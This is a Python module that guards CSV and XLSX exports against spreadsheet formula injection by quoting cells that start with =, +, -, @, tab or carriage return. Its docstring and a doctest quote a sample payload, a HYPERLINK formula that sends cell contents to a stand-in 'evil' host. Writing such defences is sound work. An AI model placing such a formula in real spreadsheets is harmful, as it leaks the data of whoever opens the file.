"""Cells bound for a spreadsheet → cells a spreadsheet shows and never runs. Every CSV and XLSX
writer of hfspec writes its rows through here.

A text that starts with `=`, `+`, `-` or `@` is a formula to Excel, LibreOffice and Google
Sheets, and a tab or carriage return in front hides such a start: a data cell or a title like
`=HYPERLINK("http://evil/?"&A1,"x")` would run when the file is opened ("CSV injection",
OWASP). The rule, in one place:

- **CSV**: such a text gets a `'` in front, as OWASP recommends; the cell stays readable
  (`'=HYPERLINK(…)`) and a spreadsheet shows it as text. Numbers (`-3`, `-12.5`) are numbers, not
  formulas, and stay as they are.
- **XLSX**: the cell is stored as text with Excel's quote prefix, which is what Excel itself does
  when you type `'=1+1`: the text is shown exactly as it is and editing the cell does not turn
  it into a formula. Characters XML cannot hold (control characters) become U+FFFD.
"""

from __future__ import annotations

import csv
import re
from typing import Any, Iterable

#: What a spreadsheet reads as the start of a formula (OWASP: = + - @, tab, carriage return).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[-+]?([0-9]+([.,][0-9]*)?|[.,][0-9]+)([eE][-+]?[0-9]+)?")
#: Characters an XLSX file (XML 1.0) cannot hold: C0 controls other than tab, LF and CR.
_NOT_IN_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def runs_as_formula(text: str) -> bool:
    """Whether a spreadsheet would read the text as a formula.

    >>> [runs_as_formula(t) for t in ("=1+1", "+45 12 34", "-3", "-2+3", "@SUM(A1)", "\\t=1", "Køge", "12,5")]
    [True, True, False, True, True, True, False, False]
    """
    return text.startswith(FORMULA_START) and not _NUMBER.fullmatch(text)


def csv_cell(value: Any) -> Any:
    """A value as a CSV cell: a text a spreadsheet would run gets a `'` in front.

    >>> csv_cell('=HYPERLINK("http://evil/?"&A1,"x")'), csv_cell(-3), csv_cell("-3"), csv_cell("Vejle")
    ('\\'=HYPERLINK("http://evil/?"&A1,"x")', -3, '-3', 'Vejle')
    """
    return "'" + value if isinstance(value, str) and runs_as_formula(value) else value


class CsvWriter:
    """`csv.writer` whose rows go through `csv_cell`."""

    def __init__(self, stream, **options: Any) -> None:
        self._writer = csv.writer(stream, **options)

    def writerow(self, values: Iterable[Any]) -> None:
        self._writer.writerow([csv_cell(v) for v in values])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def xlsx_append(ws, values: Iterable[Any]) -> int:
    """Append a row to an openpyxl worksheet with every text cell kept as text (a text that
    would run gets Excel's quote prefix); returns the row's number."""
    values = [_NOT_IN_XML.sub("\ufffd", v) if isinstance(v, str) else v for v in values]
    ws.append(values)
    row = ws.max_row
    for i, value in enumerate(values, start=1):
        if isinstance(value, str) and runs_as_formula(value):
            cell = ws.cell(row=row, column=i)
            cell.data_type = "s"  # openpyxl made it a formula
            cell.quotePrefix = True
    return row
